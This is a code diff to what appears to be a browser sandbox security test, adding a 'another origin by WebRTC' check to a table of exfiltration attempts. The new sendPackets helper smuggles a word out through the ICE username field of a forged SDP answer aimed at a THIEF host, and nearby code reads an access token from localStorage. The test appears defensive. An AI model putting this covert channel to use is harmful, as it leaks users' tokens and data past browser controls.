@@ -10,6 +10,19 @@ const loaded = (element) => new Promise((resolve, reject) => {
 const make = (name, fields) => Object.assign(document.createElement(name), fields);
 const isAnswered = async (path, init) => (await fetch(path, init)).ok;
 const token = () => JSON.parse(localStorage.getItem('auth-storage')).access_token;
+/** Sends the word in packets of WebRTC, whose name the receiver chooses. */
+const sendPackets = async (word) => {
+  const { hostname, port } = new URL(THIEF);
+  const peer = new RTCPeerConnection();
+  peer.createDataChannel('x');
+  await peer.setLocalDescription();
+  const sdp = ['v=0', 'o=- 1 1 IN IP4 127.0.0.1', 's=-', 't=0 0', 'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0',
+    'a=mid:0', 'a=ice-ufrag:' + word, 'a=ice-pwd:' + 'p'.repeat(24), 'a=fingerprint:sha-256 ' + Array(32).fill('AB').join(':'),
+    'a=setup:passive', 'a=sctp-port:5000', 'a=candidate:1 1 udp 2130706431 ' + hostname + ' ' + port + ' typ host', ''].join('\\r\\n');
+  await peer.setRemoteDescription({ type: 'answer', sdp });
+  await new Promise((resolve) => { setTimeout(resolve, 1_000); });
+  peer.close();
+};
 /** In a frame: what the shell hands over for a call. */
 const isGiven = async (path) => Boolean((await hostilePlatform.data.call({ method: 'GET', path })).data);
 `;
@@ -38,6 +51,7 @@ const TRIES = {
       form.submit();
     })(),
   ]).then(() => false)`,
+  'another origin by WebRTC': `sendPackets('stolen').then(() => false)`,
   'another origin through the service worker': `(async () => {
     const { active } = await navigator.serviceWorker.ready;
     const { port1, port2 } = new MessageChannel();
